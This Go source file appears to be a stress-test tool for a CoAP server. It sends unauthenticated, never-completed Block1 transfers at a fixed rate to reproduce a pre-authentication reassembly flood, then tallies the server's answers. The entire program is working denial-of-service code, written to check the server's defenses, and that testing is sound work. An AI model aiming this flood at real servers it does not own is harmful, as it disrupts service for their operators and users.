// Command block1flood sends unfinished Block1 transfers from one source
// address (a new source port every 50000 datagrams, as Message IDs are 16
// bits): block 0 (More set, 1024-byte blocks) of a new transfer per
// datagram, each to its own /topic/… path, without any credential, at a
// fixed rate for a fixed time. It prints how the server answered. It
// reproduces the pre-authentication reassembly flood that the server's
// Block1 budgets and first-block authentication are meant to absorb.
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:5683", "CoAP server address")
	rate := flag.Int("rate", 5000, "transfers started per second")
	dur := flag.Duration("duration", 30*time.Second, "how long to send")
	blocks := flag.Int("blocks", 1, "blocks sent per transfer (all with More set: never finished)")
	token := flag.String("token", "", "token sent in option 2088 (default none)")
	topic := flag.String("topic", "", "topic path below /topic (default a new one per transfer)")
	flag.Parse()
	raddr, err := net.ResolveUDPAddr("udp", *addr)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	var (
		mu     sync.Mutex
		counts = map[string]int{}
		wg     sync.WaitGroup
		conns  []*net.UDPConn
	)
	dial := func() *net.UDPConn {
		conn, err := net.DialUDP("udp", nil, raddr)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		conns = append(conns, conn)
		wg.Add(1)
		go func() { // counts answers until the socket closes
			defer wg.Done()
			buf := make([]byte, 2048)
			for {
				n, err := conn.Read(buf)
				if err != nil {
					return
				}
				if n >= 2 {
					c := buf[1]
					mu.Lock()
					counts[fmt.Sprintf("%d.%02d", c>>5, c&0x1f)]++
					mu.Unlock()
				}
			}
		}()
		return conn
	}
	conn := dial()
	payload := make([]byte, 1024)
	tick := time.NewTicker(time.Second / time.Duration(max(*rate/100, 1)))
	defer tick.Stop()
	end := time.Now().Add(*dur)
	sent := 0
	for time.Now().Before(end) {
		<-tick.C
		for range 100 {
			sent++
			if sent%50000 == 0 {
				conn = dial()
			}
			num := uint32((sent - 1) % *blocks)
			xfer := (sent - 1) / *blocks
			b := []byte{0x44, 0x02, 0, 0, 0, 0, 0, 0} // CON POST, MID, 4-byte token
			binary.BigEndian.PutUint16(b[2:], uint16(sent))
			binary.BigEndian.PutUint32(b[4:], uint32(sent))
			b = append(b, 0xb5)
			b = append(b, "topic"...)
			segs := []string{fmt.Sprintf("f%d", xfer)}
			if *topic != "" {
				segs = append(strings.Split(*topic, "/"), segs[0])
			}
			for _, seg := range segs { // Uri-Path (11), delta 0, < 13 bytes
				b = append(b, byte(len(seg)))
				b = append(b, seg...)
			}
			v := num<<4 | 0x8 | 6 // Block1 (27): NUM, M, SZX 6 (1024 bytes)
			b = append(b, 0xd3, 27-11-13, byte(v>>16), byte(v>>8), byte(v))
			if *token != "" { // option 2088: delta 2061, length < 269
				b = append(b, 0xed, 0, 0, 0)
				binary.BigEndian.PutUint16(b[len(b)-3:], 2088-27-269)
				b[len(b)-1] = byte(len(*token) - 13)
				b = append(b, *token...)
			}
			b = append(b, 0xff)
			b = append(b, payload...)
			if _, err := conn.Write(b); err != nil {
				fmt.Fprintln(os.Stderr, "write:", err)
			}
		}
	}
	time.Sleep(time.Second) // last answers
	for _, c := range conns {
		c.Close()
	}
	wg.Wait()
	mu.Lock()
	defer mu.Unlock()
	fmt.Printf("sent %d datagrams (%d transfers of %d blocks); answers by code: %v\n", sent, (sent+*blocks-1) / *blocks, *blocks, counts)
}
